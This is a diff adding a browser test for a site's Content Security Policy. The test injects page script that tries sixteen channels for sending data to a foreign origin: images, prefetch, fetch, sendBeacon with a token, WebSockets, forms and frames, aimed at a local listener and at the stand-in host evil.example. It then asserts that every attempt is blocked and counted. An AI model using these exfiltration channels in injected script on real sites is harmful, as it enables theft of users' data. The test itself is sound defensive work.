@@ -1,0 +1,79 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { askLocally } from 'workspace/ask-site';
+import { expect, test } from './fixtures';
+import { socketOf } from './visits';
+
+test('a script that runs in the page can tell nothing to a foreign origin, by picture, prefetch, call, form, frame or socket; what is stopped is counted', async ({
+  page,
+  site,
+  expectErrors,
+}) => {
+  expectErrors(/policy violation|Content Security Policy|Trusted|inline script/);
+  const heard: string[] = [];
+  const foreign = createServer((request, response) => {
+    heard.push(`${request.method} ${request.url}`);
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'cache-control': 'max-age=60' }).end();
+  });
+  foreign.on('upgrade', (request, socket) => {
+    heard.push(`socket ${request.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+  const evil = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
+  const elsewhere = 'https://evil.example'; // a scheme alone must not be enough
+  await page.context().route(`${elsewhere}/**`, async (route) => {
+    heard.push(route.request().url());
+    await route.fulfill({ body: '' });
+  });
+  await page.goto('/login');
+  await expect(page.getByRole('heading', { name: 'Login' })).toBeVisible();
+  const tryAll = async (evil: string) => {
+    const add = (tag: string, properties: object) => document.body.append(Object.assign(document.createElement(tag), properties));
+    const ways: Record<string, () => unknown> = {
+      picture: () => add('img', { src: `${evil}/picture` }),
+      prefetch: () => add('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
+      preload: () => add('link', { rel: 'preload', as: 'image', href: `${evil}/preload` }),
+      prerender: () => add('link', { rel: 'prerender', href: `${evil}/prerender` }),
+      manifest: () => add('link', { rel: 'manifest', href: `${evil}/manifest` }),
+      style: () => add('link', { rel: 'stylesheet', href: `${evil}/style` }),
+      speculation: () =>
+        add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${evil}/rules`] }] }) }),
+      sound: () => add('audio', { src: `${evil}/sound` }),
+      frame: () => add('iframe', { src: `${evil}/frame` }),
+      background: () => document.body.style.setProperty('background', `url(${evil}/background)`),
+      call: () => fetch(`${evil}/call`, { mode: 'no-cors' }),
+      beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'token'),
+      ping: () => {
+        add('a', { href: '#', ping: `${evil}/ping`, id: 'ping' });
+        document.getElementById('ping')?.click();
+      },
+      socket: () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
+      events: () => new EventSource(`${evil}/events`),
+      form: () => {
+        add('form', { action: `${evil}/form`, method: 'post', target: '_self', id: 'form' });
+        (document.getElementById('form') as HTMLFormElement).submit();
+      },
+    };
+    for (const way of Object.values(ways)) {
+      try {
+        await way();
+      } catch {
+        // stopped at once
+      }
+    }
+    return Object.keys(ways).length;
+  };
+  for (const origin of [evil, elsewhere]) expect(await page.evaluate(tryAll, origin)).toBe(16);
+  await page.waitForTimeout(1000); // what was not stopped arrives
+  expect(heard).toEqual([]);
+  await expect
+    .poll(
+      async () =>
+        (await askLocally(socketOf(site), '/_shell/status?format=prometheus')).text.match(/carry_csp_violations_total\{.*img-src.*/)?.[0],
+    )
+    .toMatch(/directive="img-src",blocked="foreign"\} [1-9]/);
+  expect(site.lines.join()).not.toContain(evil);
+  foreign.closeAllConnections();
+  foreign.close();
+});
